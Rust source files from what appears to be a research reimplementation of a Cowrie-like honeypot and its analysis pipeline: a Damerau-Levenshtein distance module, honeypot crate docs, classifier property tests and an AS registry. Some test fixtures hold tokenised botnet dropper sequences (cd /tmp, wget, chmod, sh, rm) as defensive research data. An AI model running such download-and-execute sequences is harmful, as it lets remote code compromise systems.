        let mut left = i; // cur[j-1]
        let mut diag = i - 1; // prev[j-1]
        for j in 1..=m {
            let bj = &b[j - 1];
            let up = s.prev[j];
            let cost = usize::from(ai != bj);
            let mut best = (up + 1) // deletion
                .min(left + 1) // insertion
                .min(diag + cost); // substitution
            if i > 1 && j > 1 && *ai == b[j - 2] && a[i - 2] == *bj {
                best = best.min(s.prev2[j - 2] + 1); // transposition
            }
            s.cur[j] = best;
            diag = up;
            left = best;
        }
        std::mem::swap(&mut s.prev2, &mut s.prev);
        std::mem::swap(&mut s.prev, &mut s.cur);
    }
    s.prev[m]
}

/// Cells outside the Ukkonen band (treated as unreachable).
const BAND_INF: usize = usize::MAX / 2;

/// Ukkonen-banded [`dld`]: `Some(d)` iff the distance is at most `band`,
/// `None` otherwise. Exact within the band — any edit script of cost
/// `d ≤ band` never strays more than `d` cells off the main diagonal
/// (insertions/deletions shift it by one each, transpositions keep it),
/// so restricting the DP to `|i − j| ≤ band` cannot cut off a witness.
/// The `|len(a) − len(b)|` length lower bound is checked first, so calls
/// whose lengths already prove the bound cost O(1) and touch no DP row.
pub fn dld_banded<T: PartialEq>(a: &[T], b: &[T], band: usize) -> Option<usize> {
    let (n, m) = (a.len(), b.len());
    if n.abs_diff(m) > band {
        return None;
    }
    if n == 0 {
        return Some(m);
    }
    if m == 0 {
        return Some(n);
    }
    let mut prev2 = vec![BAND_INF; m + 1];
    let mut prev = vec![BAND_INF; m + 1];
    let mut cur = vec![BAND_INF; m + 1];
    for (j, p) in prev.iter_mut().enumerate().take(m.min(band) + 1) {
        *p = j;
    }
    for i in 1..=n {
        // In-band columns for this row; the length pre-check guarantees
        // `lo ≤ hi`. Cells just outside the window are pinned to BAND_INF
        // so stale values from two rows ago are never read.
        let lo = i.saturating_sub(band).max(1);
        let hi = (i + band).min(m);
        cur[lo - 1] = if lo == 1 { i } else { BAND_INF };
        for j in lo..=hi {
            let cost = usize::from(a[i - 1] != b[j - 1]);
            let mut best = (prev[j] + 1).min(cur[j - 1] + 1).min(prev[j - 1] + cost);
            if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                best = best.min(prev2[j - 2] + 1);
            }
            cur[j] = best;
        }
        if hi < m {
            cur[hi + 1] = BAND_INF;
        }
        std::mem::swap(&mut prev2, &mut prev);
        std::mem::swap(&mut prev, &mut cur);
    }
    (prev[m] <= band).then_some(prev[m])
}

/// DLD normalized by the longer sequence length, in `[0, 1]`
/// (0 = identical, 1 = nothing in common). Two empty sequences are
/// identical (0).
pub fn normalized_dld<T: PartialEq>(a: &[T], b: &[T]) -> f64 {
    let max = a.len().max(b.len());
    if max == 0 {
        return 0.0;
    }
    dld(a, b) as f64 / max as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(s: &str) -> Vec<&str> {
        s.split_whitespace().collect()
    }

    #[test]
    fn paper_example_distance_one() {
        // "mkdir /tmp" vs "cd /tmp" → one token substituted.
        assert_eq!(dld(&toks("mkdir /tmp"), &toks("cd /tmp")), 1);
    }

    #[test]
    fn identical_and_empty() {
        assert_eq!(dld(&toks("a b c"), &toks("a b c")), 0);
        assert_eq!(dld::<&str>(&[], &[]), 0);
        assert_eq!(dld(&toks("a b"), &[]), 2);
        assert_eq!(dld::<&str>(&[], &toks("x y z")), 3);
    }

    #[test]
    fn insertion_deletion_substitution() {
        assert_eq!(dld(&toks("a b c"), &toks("a b c d")), 1);
        assert_eq!(dld(&toks("a b c d"), &toks("a b c")), 1);
        assert_eq!(dld(&toks("a b c"), &toks("a x c")), 1);
        assert_eq!(dld(&toks("a b c"), &toks("x y z")), 3);
    }

    #[test]
    fn transposition_counts_once() {
        assert_eq!(dld(&toks("a b"), &toks("b a")), 1);
        assert_eq!(dld(&toks("wget chmod sh"), &toks("chmod wget sh")), 1);
    }

    #[test]
    fn char_level_classics() {
        let a: Vec<char> = "ca".chars().collect();
        let b: Vec<char> = "abc".chars().collect();
        // OSA gives 3 here (true DLD would give 2) — we implement OSA, the
        // standard "Damerau-Levenshtein" of practice.
        assert_eq!(dld(&a, &b), 3);
        let a: Vec<char> = "kitten".chars().collect();
        let b: Vec<char> = "sitting".chars().collect();
        assert_eq!(dld(&a, &b), 3);
    }

    #[test]
    fn triangle_inequality_holds_on_samples() {
        let xs = [
            toks("cd /tmp wget u sh f"),
            toks("cd /tmp curl u sh f"),
            toks("mkdir d cd d wget u chmod f sh f rm f"),
            toks("uname -a"),
            toks(""),
        ];
        for a in &xs {
            for b in &xs {
                for c in &xs {
                    assert!(dld(a, c) <= dld(a, b) + dld(b, c));
                }
            }
        }
    }

    #[test]
    fn symmetry() {
        let a = toks("a b c d e");
        let b = toks("a c b e");
        assert_eq!(dld(&a, &b), dld(&b, &a));
    }

    #[test]
    fn scratch_variant_matches_and_reuses_rows() {
        let mut s = DldScratch::new();
        let pairs = [
            ("mkdir /tmp", "cd /tmp"),
            ("a b c", "a b c d"),
            ("", "x y z"),
            ("wget chmod sh", "chmod wget sh"),
            ("a much longer command line here", "short"),
            ("short", "a much longer command line here"),
        ];
        for (a, b) in pairs {
            let (ta, tb) = (toks(a), toks(b));
            assert_eq!(
                dld_with_scratch(&ta, &tb, &mut s),
                dld(&ta, &tb),
                "{a:?} vs {b:?}"
            );
        }
    }

    #[test]
    fn banded_matches_full_within_band() {
        let pairs = [
            ("mkdir /tmp", "cd /tmp"),
            ("a b c", "x y z"),
            ("a b", "b a"),
            ("", ""),
            ("a b c d e f", ""),
            (
                "cd /tmp wget u sh f",
                "mkdir d cd d wget u chmod f sh f rm f",
            ),
        ];
        for (a, b) in pairs {
            let (ta, tb) = (toks(a), toks(b));
            let full = dld(&ta, &tb);
            for band in 0..10 {
                let got = dld_banded(&ta, &tb, band);
                if full <= band {
                    assert_eq!(got, Some(full), "{a:?} vs {b:?} band {band}");
                } else {
                    assert_eq!(got, None, "{a:?} vs {b:?} band {band}");
                }
            }
        }
    }

    #[test]
    fn banded_length_bound_short_circuits() {
        // |len difference| alone proves the bound: no DP rows needed.
        let a = toks("a b c d e f g h");
        let b = toks("a b");
        assert_eq!(dld_banded(&a, &b, 3), None);
        assert_eq!(dld_banded(&a, &b, 6), Some(6));
    }

    #[test]
    fn normalized_bounds() {
        assert_eq!(normalized_dld::<&str>(&[], &[]), 0.0);
        assert_eq!(normalized_dld(&toks("a b"), &toks("a b")), 0.0);
        assert_eq!(normalized_dld(&toks("a b"), &toks("x y")), 1.0);
        let v = normalized_dld(&toks("a b c d"), &toks("a b"));
        assert!((0.0..=1.0).contains(&v));
        assert_eq!(v, 0.5);
    }
}
