//! `honeypot` — a Cowrie-like medium-interaction SSH/Telnet honeypot.
//!
//! This crate reimplements the sensor side of the paper's honeynet
//! (§3.1–§3.2): a honeypot that accepts any `root` login except the
//! password `root` (plus Cowrie's well-known default accounts), offers an
//! emulated Unix shell, records every session in the schema the analysis
//! pipeline consumes, and forwards closed sessions to a central collector.
//!
//! Faithfully modelled Cowrie behaviours the paper's findings depend on:
//!
//! * the 3-minute idle timeout ending sessions (§3.2);
//! * "known" commands are emulated, unknown ones merely recorded (§3.2);
//! * URIs in commands are recorded; files created or modified are hashed
//!   (SHA-256) but never stored (§3.3–§6);
//! * `scp`/`rsync`/(S)FTP *uploads are not emulated*, so files pushed that
//!   way are never captured — producing the "file missing" phenomenon of
//!   Fig. 4b;
//! * the per-session copy-on-write filesystem: state does not persist
//!   across sessions, which attackers exploit for honeypot detection (§5);
//! * default accounts `richard`/`phil` (§8): the deployed version accepts
//!   `phil`, making the honeynet fingerprintable.
//!
//! Sessions can be driven two ways: the bulk generator calls the shell
//! emulator directly ([`session`]), while [`wire`] runs the identical
//! policy over a real `sshwire` dialogue — both produce the same
//! [`record::SessionRecord`].

pub mod auth;
pub mod collector;
pub mod cowrie_log;
pub mod fleet;
pub mod outage;
pub mod record;
pub mod session;
pub mod shell;
pub mod vfs;
pub mod wire;
pub mod wire_telnet;

pub use auth::AuthPolicy;
pub use collector::{
    ingest_parallel, panic_message, Collector, CollectorConfig, CollectorError, IngestOutcome,
    IngestStats, SessionSink, SinkError,
};
pub use cowrie_log::{
    from_cowrie_log, from_cowrie_log_lossy, to_cowrie_events, to_cowrie_log, LossyImport,
};
pub use fleet::{maintenance_end, maintenance_start, Fleet, Honeypot};
pub use outage::{OutageConfig, OutageSchedule};
pub use record::{
    CommandRecord, FileEvent, FileOp, LoginAttempt, Protocol, SessionEndReason, SessionRecord,
};
pub use session::{SessionInput, SessionSim};
pub use shell::{RemoteStore, Shell};
pub use vfs::Vfs;
pub use wire_telnet::{run_telnet_session, TelnetSessionMeta};
