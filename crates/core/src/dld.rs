//! Damerau-Levenshtein distance over token sequences (paper §6).
//!
//! The paper computes DLD treating each *token* as a single character.
//! This is the standard optimal-string-alignment formulation (insert,
//! delete, substitute, transpose-adjacent), generic over any `PartialEq`
//! element type.

/// Damerau-Levenshtein (optimal string alignment) distance between two
/// sequences.
pub fn dld<T: PartialEq>(a: &[T], b: &[T]) -> usize {
    let (n, m) = (a.len(), b.len());
    if n == 0 {
        return m;
    }
    if m == 0 {
        return n;
    }
    // Three rolling rows: i-2, i-1, i.
    let mut prev2 = vec![0usize; m + 1];
    let mut prev = (0..=m).collect::<Vec<usize>>();
    let mut cur = vec![0usize; m + 1];
    for i in 1..=n {
        cur[0] = i;
        for j in 1..=m {
            let cost = usize::from(a[i - 1] != b[j - 1]);
            let mut best = (prev[j] + 1) // deletion
                .min(cur[j - 1] + 1) // insertion
                .min(prev[j - 1] + cost); // substitution
            if i > 1 && j > 1 && a[i - 1] == b[j - 2] && a[i - 2] == b[j - 1] {
                best = best.min(prev2[j - 2] + 1); // transposition
            }
            cur[j] = best;
        }
        std::mem::swap(&mut prev2, &mut prev);
        std::mem::swap(&mut prev, &mut cur);
    }
    prev[m]
}

/// DLD normalized by the longer sequence length, in `[0, 1]`
/// (0 = identical, 1 = nothing in common). Two empty sequences are
/// identical (0).
pub fn normalized_dld<T: PartialEq>(a: &[T], b: &[T]) -> f64 {
    let max = a.len().max(b.len());
    if max == 0 {
        return 0.0;
    }
    dld(a, b) as f64 / max as f64
}

#[cfg(test)]
mod tests {
    use super::*;

    fn toks(s: &str) -> Vec<&str> {
        s.split_whitespace().collect()
    }

    #[test]
    fn paper_example_distance_one() {
        // "mkdir /tmp" vs "cd /tmp" → one token substituted.
        assert_eq!(dld(&toks("mkdir /tmp"), &toks("cd /tmp")), 1);
    }

    #[test]
    fn identical_and_empty() {
        assert_eq!(dld(&toks("a b c"), &toks("a b c")), 0);
        assert_eq!(dld::<&str>(&[], &[]), 0);
        assert_eq!(dld(&toks("a b"), &[]), 2);
        assert_eq!(dld::<&str>(&[], &toks("x y z")), 3);
    }

    #[test]
    fn insertion_deletion_substitution() {
        assert_eq!(dld(&toks("a b c"), &toks("a b c d")), 1);
        assert_eq!(dld(&toks("a b c d"), &toks("a b c")), 1);
        assert_eq!(dld(&toks("a b c"), &toks("a x c")), 1);
        assert_eq!(dld(&toks("a b c"), &toks("x y z")), 3);
    }

    #[test]
    fn transposition_counts_once() {
        assert_eq!(dld(&toks("a b"), &toks("b a")), 1);
        assert_eq!(dld(&toks("wget chmod sh"), &toks("chmod wget sh")), 1);
    }

    #[test]
    fn char_level_classics() {
        let a: Vec<char> = "ca".chars().collect();
        let b: Vec<char> = "abc".chars().collect();
        // OSA gives 3 here (true DLD would give 2) — we implement OSA, the
        // standard "Damerau-Levenshtein" of practice.
        assert_eq!(dld(&a, &b), 3);
        let a: Vec<char> = "kitten".chars().collect();
        let b: Vec<char> = "sitting".chars().collect();
        assert_eq!(dld(&a, &b), 3);
    }

    #[test]
    fn triangle_inequality_holds_on_samples() {
        let xs = [
            toks("cd /tmp wget u sh f"),
            toks("cd /tmp curl u sh f"),
            toks("mkdir d cd d wget u chmod f sh f rm f"),
            toks("uname -a"),
            toks(""),
        ];
        for a in &xs {
            for b in &xs {
                for c in &xs {
                    assert!(dld(a, c) <= dld(a, b) + dld(b, c));
                }
            }
        }
    }

    #[test]
    fn symmetry() {
        let a = toks("a b c d e");
        let b = toks("a c b e");
        assert_eq!(dld(&a, &b), dld(&b, &a));
    }

    #[test]
    fn normalized_bounds() {
        assert_eq!(normalized_dld::<&str>(&[], &[]), 0.0);
        assert_eq!(normalized_dld(&toks("a b"), &toks("a b")), 0.0);
        assert_eq!(normalized_dld(&toks("a b"), &toks("x y")), 1.0);
        let v = normalized_dld(&toks("a b c d"), &toks("a b"));
        assert!((0.0..=1.0).contains(&v));
        assert_eq!(v, 0.5);
    }
}
