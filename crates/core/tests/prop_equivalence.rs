//! Property-based equivalence suite for the two optimisations this crate
//! leans on:
//!
//! 1. **Prefiltered classification** — [`Classifier::classify`] (literal
//!    prefilter + candidate verification) must agree with
//!    [`Classifier::classify_naive`] (every rule's regex in precedence
//!    order) on *every* input: botnet archetype commands, random byte
//!    strings, and adversarial texts built around the rules' own required
//!    literals.
//! 2. **Parallel map-reduce analysis** — `AnalysisBuilder::threads(n)`
//!    must produce results identical to the serial pass for any thread
//!    count, over both in-memory slices and multi-segment stores, and a
//!    corrupted segment must surface as an error rather than silently
//!    skewing the merge.

use botnet::{generate_dataset, Dataset, DriverConfig};
use honeylab_core::analysis::{AnalysisBuilder, AnalysisError, AnalysisReport, SessionSource};
use honeylab_core::classify::{Classifier, TABLE1_RULES};
use honeypot::SessionRecord;
use proptest::prelude::*;
use sregex::RegexSet;
use std::sync::OnceLock;

fn dataset() -> &'static Dataset {
    static DS: OnceLock<Dataset> = OnceLock::new();
    DS.get_or_init(|| generate_dataset(&DriverConfig::test_scale(91)))
}

fn sessions() -> &'static [SessionRecord] {
    &dataset().sessions
}

/// One command text per command session, exactly as the pipeline
/// classifies them.
fn archetype_texts() -> &'static [String] {
    static T: OnceLock<Vec<String>> = OnceLock::new();
    T.get_or_init(|| {
        dataset()
            .sessions
            .iter()
            .filter(|s| !s.commands.is_empty())
            .map(|s| {
                s.commands
                    .iter()
                    .map(|c| c.input.as_str())
                    .collect::<Vec<_>>()
                    .join("\n")
            })
            .collect()
    })
}

fn classifier() -> &'static Classifier {
    static CL: OnceLock<Classifier> = OnceLock::new();
    CL.get_or_init(Classifier::table1)
}

/// The Table 1 patterns as a bare [`RegexSet`], for properties that need
/// the literal table itself.
fn table1_set() -> &'static RegexSet {
    static SET: OnceLock<RegexSet> = OnceLock::new();
    SET.get_or_init(|| {
        RegexSet::new(TABLE1_RULES.iter().map(|(_, pat)| *pat)).expect("table1 parses")
    })
}

fn naive_first_match(set: &RegexSet, haystack: &str) -> Option<usize> {
    set.regexes().iter().position(|re| re.is_match(haystack))
}

proptest! {
    #[test]
    fn classify_agrees_on_archetype_commands(i in 0usize..1_000_000) {
        let texts = archetype_texts();
        let t = &texts[i % texts.len()];
        prop_assert_eq!(classifier().classify(t), classifier().classify_naive(t), "text {:?}", t);
    }

    #[test]
    fn classify_agrees_on_random_byte_strings(bytes in proptest::collection::vec(any::<u8>(), 0..=160)) {
        let t = String::from_utf8_lossy(&bytes).into_owned();
        prop_assert_eq!(classifier().classify(&t), classifier().classify_naive(&t), "text {:?}", t);
    }

    #[test]
    fn classify_agrees_on_literal_bearing_texts(
        k in 0usize..1_000_000,
        pre in ".{0,40}",
        suf in ".{0,40}",
    ) {
        // Wrap one of the rules' own required literals in random noise:
        // the candidate mask fires for that literal's rules, and the VM
        // verdict must still match the naive loop.
        let set = table1_set();
        let lits = set.literals();
        let lit = String::from_utf8_lossy(&lits[k % lits.len()]).into_owned();
        let t = format!("{pre}{lit}{suf}");
        prop_assert_eq!(
            set.first_match(&t),
            naive_first_match(set, &t),
            "literal {:?} in text {:?}", lit, t
        );
    }

    #[test]
    fn parallel_memory_analysis_agrees_with_serial(n in 0usize..300, threads in 1usize..9) {
        let all = sessions();
        let slice = &all[..n.min(all.len())];
        let serial = AnalysisBuilder::new(SessionSource::Memory(slice)).run().unwrap();
        let par = AnalysisBuilder::new(SessionSource::Memory(slice))
            .threads(threads)
            .run()
            .unwrap();
        assert_reports_equal(&par, &serial)?;
    }
}

/// Field-by-field equality, as a proptest-style result so the macro body
/// can `?` it.
fn assert_reports_equal(
    a: &AnalysisReport,
    b: &AnalysisReport,
) -> Result<(), proptest::TestCaseError> {
    prop_assert_eq!(a.sessions, b.sessions);
    prop_assert_eq!(&a.taxonomy, &b.taxonomy);
    prop_assert_eq!(&a.categories, &b.categories);
    prop_assert_eq!(a.coverage, b.coverage);
    let pw = |r: &AnalysisReport| r.passwords.clone().map(|p| (p.passwords, p.by_month));
    prop_assert_eq!(pw(a), pw(b));
    let pr = |r: &AnalysisReport| {
        r.probes.as_ref().map(|p| {
            (
                p.phil_success.clone(),
                p.richard_tries.clone(),
                p.phil_unique_ips,
            )
        })
    };
    prop_assert_eq!(pr(a), pr(b));
    prop_assert_eq!(&a.downloads, &b.downloads);
    prop_assert_eq!(&a.storage, &b.storage);
    let md = |r: &AnalysisReport| r.mdrfckr.as_ref().map(|t| t.daily.clone());
    prop_assert_eq!(md(a), md(b));
    Ok(())
}

/// A text containing *every* required literal makes every prefiltered
/// rule a candidate — the worst case for the prefilter, where it must
/// degrade to exactly the naive loop.
#[test]
fn all_literals_present_still_agrees() {
    let set = table1_set();
    let soup: Vec<String> = set
        .literals()
        .iter()
        .map(|l| String::from_utf8_lossy(l).into_owned())
        .collect();
    let t = soup.join(" ");
    assert!(
        set.candidates(&t).iter().all(|&c| c),
        "every rule must be a candidate"
    );
    assert_eq!(set.first_match(&t), naive_first_match(set, &t));
}

#[test]
fn parallel_store_analysis_agrees_with_serial() {
    let dir = std::env::temp_dir().join(format!("prop-parstore-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let mut w = sessiondb::StoreWriter::with_rows_per_segment(&dir, 16).unwrap();
    for rec in sessions() {
        honeypot::SessionSink::append(&mut w, rec).unwrap();
    }
    honeypot::SessionSink::finish(&mut w).unwrap();
    let store = sessiondb::Store::open(&dir).unwrap();

    let serial = AnalysisBuilder::new(SessionSource::Store(&store))
        .run()
        .unwrap();
    for threads in 1..=6 {
        let par = AnalysisBuilder::new(SessionSource::Store(&store))
            .threads(threads)
            .run()
            .unwrap();
        assert_reports_equal(&par, &serial).unwrap_or_else(|e| panic!("threads={threads}: {e}"));
    }
    let _ = std::fs::remove_dir_all(&dir);
}

#[test]
fn corrupted_segment_fails_parallel_analysis() {
    let dir = std::env::temp_dir().join(format!("prop-parcorrupt-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&dir);
    let mut w = sessiondb::StoreWriter::with_rows_per_segment(&dir, 16).unwrap();
    for rec in sessions() {
        honeypot::SessionSink::append(&mut w, rec).unwrap();
    }
    honeypot::SessionSink::finish(&mut w).unwrap();

    let seg = dir.join("seg-000001.hsdb");
    let mut bytes = std::fs::read(&seg).unwrap();
    let mid = bytes.len() / 2;
    bytes[mid] ^= 0xff;
    std::fs::write(&seg, &bytes).unwrap();

    let store = sessiondb::Store::open(&dir).unwrap();
    for threads in [1, 4] {
        let r = AnalysisBuilder::new(SessionSource::Store(&store))
            .threads(threads)
            .run();
        assert!(
            matches!(r, Err(AnalysisError::Store(_))),
            "threads={threads}: corruption must surface, got {r:?}"
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}
