//! AS records and time-aware IP→AS resolution.

use hutil::Date;
use netsim::{Ipv4Addr, Prefix};

/// Network type tags, collapsed to the four classes the paper analyses
/// (§3.5): CDN, Hosting, ISP/NSP, Other.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Hash, PartialOrd, Ord)]
pub enum AsType {
    /// Content delivery networks.
    Cdn,
    /// Hosting providers, including web hosting and VPN providers.
    Hosting,
    /// Internet/network service providers (eyeball and transit).
    IspNsp,
    /// Governmental, academic, corporate, personal or unlabeled networks.
    Other,
}

impl AsType {
    /// All four classes in the paper's display order.
    pub const ALL: [AsType; 4] = [AsType::Cdn, AsType::Hosting, AsType::IspNsp, AsType::Other];

    /// The label used in figures.
    pub fn label(self) -> &'static str {
        match self {
            AsType::Cdn => "CDN",
            AsType::Hosting => "Hosting",
            AsType::IspNsp => "ISP/NSP",
            AsType::Other => "Other",
        }
    }
}

impl std::fmt::Display for AsType {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str(self.label())
    }
}

/// One prefix announcement with its validity window.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Announcement {
    /// The announced prefix.
    pub prefix: Prefix,
    /// First day the announcement was visible.
    pub from: Date,
    /// Last day visible (inclusive); `None` while still announced.
    pub until: Option<Date>,
}

impl Announcement {
    /// Whether the announcement was visible on `date`.
    pub fn active_on(&self, date: Date) -> bool {
        date >= self.from && self.until.is_none_or(|u| date <= u)
    }
}

/// A synthetic AS: identity, classification and announcement history.
#[derive(Debug, Clone)]
pub struct AsRecord {
    /// AS number.
    pub asn: u32,
    /// Organisation name.
    pub org: String,
    /// Collapsed type tag.
    pub as_type: AsType,
    /// RIR registration date.
    pub registered: Date,
    /// Announcement history.
    pub announcements: Vec<Announcement>,
    /// If set, the AS stopped announcing prefixes on this date ("down" in
    /// the paper's storage-AS census).
    pub down_since: Option<Date>,
}

impl AsRecord {
    /// Age in whole years at `date` (floor).
    pub fn age_years_at(&self, date: Date) -> i64 {
        date.days_since(self.registered).max(0) / 365
    }

    /// Deaggregated /24 count of all announcements active on `date`.
    pub fn size_24s_at(&self, date: Date) -> u64 {
        self.announcements
            .iter()
            .filter(|a| a.active_on(date))
            .map(|a| a.prefix.deaggregated_24s())
            .sum()
    }

    /// Whether the AS announces nothing on `date`.
    pub fn is_down_on(&self, date: Date) -> bool {
        self.down_since.is_some_and(|d| date >= d)
            || !self.announcements.iter().any(|a| a.active_on(date))
    }
}

/// The registry: all AS records plus an interval index for historic
/// IP→AS resolution.
#[derive(Debug, Clone, Default)]
pub struct AsRegistry {
    records: Vec<AsRecord>,
    /// `(range start, range end inclusive, record index, announcement
    /// index)` sorted by range start. Prefix ranges are disjoint by
    /// construction in the generator; lookup still checks windows.
    index: Vec<(u32, u32, usize, usize)>,
    /// Largest announcement span, bounding how far back a covering range
    /// can start — makes the reverse scan in `lookup` O(overlaps).
    max_span: u32,
}

impl AsRegistry {
    /// Builds a registry from records, constructing the lookup index.
    pub fn new(records: Vec<AsRecord>) -> Self {
        let mut index = Vec::new();
        let mut max_span = 0u32;
        for (ri, rec) in records.iter().enumerate() {
            for (ai, ann) in rec.announcements.iter().enumerate() {
                let start = ann.prefix.base().0;
                let span = (ann.prefix.num_addrs() - 1) as u32;
                max_span = max_span.max(span);
                index.push((start, start + span, ri, ai));
            }
        }
        index.sort_unstable();
        Self {
            records,
            index,
            max_span,
        }
    }

    /// All records.
    pub fn records(&self) -> &[AsRecord] {
        &self.records
    }

    /// Number of ASes.
    pub fn len(&self) -> usize {
        self.records.len()
    }

    /// Whether the registry is empty.
    pub fn is_empty(&self) -> bool {
        self.records.is_empty()
    }

    /// The record for `asn`, if present.
    pub fn by_asn(&self, asn: u32) -> Option<&AsRecord> {
        self.records.iter().find(|r| r.asn == asn)
    }

    /// Historic lookup: which AS announced `ip` on `date`?
    ///
    /// This mirrors the paper's use of a historic WHOIS service \[82\]: the
    /// answer reflects the state of the routing system *at that time*, not
    /// today.
    pub fn lookup(&self, ip: Ipv4Addr, date: Date) -> Option<&AsRecord> {
        // Find candidate ranges containing ip (ranges are disjoint, but an
        // address may have been announced by different ASes over time, so
        // scan all covering entries).
        let pos = self
            .index
            .partition_point(|&(start, _, _, _)| start <= ip.0);
        // Walk backwards over ranges starting at or before ip.
        for &(start, end, ri, ai) in self.index[..pos].iter().rev() {
            if ip.0 > end {
                // Ranges are sorted by start; earlier entries can still
                // cover `ip` only if they start within `max_span` of it.
                if ip.0 - start > self.max_span {
                    break;
                }
                continue;
            }
            let rec = &self.records[ri];
            if rec.announcements[ai].active_on(date) {
                return Some(rec);
            }
        }
        None
    }

    /// Number of ASes registered in `[from, to]` — the paper cites ~1,500
    /// new ASes globally during the collection window.
    pub fn registered_between(&self, from: Date, to: Date) -> usize {
        self.records
            .iter()
            .filter(|r| r.registered >= from && r.registered <= to)
            .count()
    }

    /// Convenience: deaggregated size of `asn` at `date`, 0 if unknown.
    pub fn size_24s(&self, asn: u32, date: Date) -> u64 {
        self.by_asn(asn).map_or(0, |r| r.size_24s_at(date))
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn d(y: i32, m: u8, day: u8) -> Date {
        Date::new(y, m, day)
    }

    fn rec(asn: u32, reg: Date, prefix: Prefix, from: Date, until: Option<Date>) -> AsRecord {
        AsRecord {
            asn,
            org: format!("AS{asn}-ORG"),
            as_type: AsType::Hosting,
            registered: reg,
            announcements: vec![Announcement {
                prefix,
                from,
                until,
            }],
            down_since: None,
        }
    }

    #[test]
    fn lookup_respects_announcement_window() {
        let p = Prefix::new(Ipv4Addr::from_octets(10, 0, 0, 0), 24);
        let r = rec(65001, d(2020, 1, 1), p, d(2022, 1, 1), Some(d(2022, 6, 30)));
        let reg = AsRegistry::new(vec![r]);
        let ip = Ipv4Addr::from_octets(10, 0, 0, 77);
        assert!(reg.lookup(ip, d(2021, 12, 31)).is_none());
        assert_eq!(reg.lookup(ip, d(2022, 1, 1)).unwrap().asn, 65001);
        assert_eq!(reg.lookup(ip, d(2022, 6, 30)).unwrap().asn, 65001);
        assert!(reg.lookup(ip, d(2022, 7, 1)).is_none());
    }

    #[test]
    fn lookup_finds_correct_as_among_many() {
        let mut records = Vec::new();
        for i in 0..100u32 {
            let p = Prefix::new(Ipv4Addr::from_octets(10, i as u8, 0, 0), 16);
            records.push(rec(65000 + i, d(2019, 1, 1), p, d(2021, 1, 1), None));
        }
        let reg = AsRegistry::new(records);
        let ip = Ipv4Addr::from_octets(10, 42, 200, 9);
        assert_eq!(reg.lookup(ip, d(2023, 5, 1)).unwrap().asn, 65042);
        // Outside every block.
        assert!(reg
            .lookup(Ipv4Addr::from_octets(11, 0, 0, 1), d(2023, 5, 1))
            .is_none());
    }

    #[test]
    fn historic_reassignment_resolves_by_date() {
        // Same prefix announced by AS A until March, then AS B from April.
        let p = Prefix::new(Ipv4Addr::from_octets(192, 0, 2, 0), 24);
        let a = rec(65001, d(2015, 1, 1), p, d(2022, 1, 1), Some(d(2022, 3, 31)));
        let b = rec(65002, d(2023, 1, 1), p, d(2022, 4, 1), None);
        let reg = AsRegistry::new(vec![a, b]);
        let ip = Ipv4Addr::from_octets(192, 0, 2, 5);
        assert_eq!(reg.lookup(ip, d(2022, 2, 1)).unwrap().asn, 65001);
        assert_eq!(reg.lookup(ip, d(2022, 5, 1)).unwrap().asn, 65002);
    }

    #[test]
    fn age_is_floor_years() {
        let r = rec(
            65001,
            d(2020, 6, 1),
            Prefix::new(Ipv4Addr(0), 24),
            d(2020, 6, 1),
            None,
        );
        assert_eq!(r.age_years_at(d(2021, 5, 31)), 0);
        assert_eq!(r.age_years_at(d(2021, 6, 2)), 1);
        assert_eq!(r.age_years_at(d(2025, 6, 3)), 5);
        // Before registration clamps to zero.
        assert_eq!(r.age_years_at(d(2019, 1, 1)), 0);
    }

    #[test]
    fn size_sums_active_deaggregated_24s() {
        let mut r = rec(
            65001,
            d(2020, 1, 1),
            Prefix::new(Ipv4Addr::from_octets(10, 0, 0, 0), 22),
            d(2021, 1, 1),
            None,
        );
        r.announcements.push(Announcement {
            prefix: Prefix::new(Ipv4Addr::from_octets(10, 1, 0, 0), 24),
            from: d(2023, 1, 1),
            until: None,
        });
        assert_eq!(r.size_24s_at(d(2022, 1, 1)), 4);
        assert_eq!(r.size_24s_at(d(2023, 6, 1)), 5);
    }

    #[test]
    fn down_detection() {
        let mut r = rec(
            65001,
            d(2020, 1, 1),
            Prefix::new(Ipv4Addr(0), 24),
            d(2021, 1, 1),
            Some(d(2023, 1, 1)),
        );
        assert!(!r.is_down_on(d(2022, 1, 1)));
        assert!(r.is_down_on(d(2023, 2, 1)));
        r.down_since = Some(d(2024, 1, 1));
        assert!(r.is_down_on(d(2024, 6, 1)));
    }

    #[test]
    fn registered_between_counts() {
        let records = vec![
            rec(
                1,
                d(2021, 6, 1),
                Prefix::new(Ipv4Addr(0), 24),
                d(2021, 6, 1),
                None,
            ),
            rec(
                2,
                d(2022, 6, 1),
                Prefix::new(Ipv4Addr(256), 24),
                d(2022, 6, 1),
                None,
            ),
            rec(
                3,
                d(2024, 1, 1),
                Prefix::new(Ipv4Addr(512), 24),
                d(2024, 1, 1),
                None,
            ),
        ];
        let reg = AsRegistry::new(records);
        assert_eq!(reg.registered_between(d(2021, 12, 1), d(2024, 8, 31)), 2);
    }
}
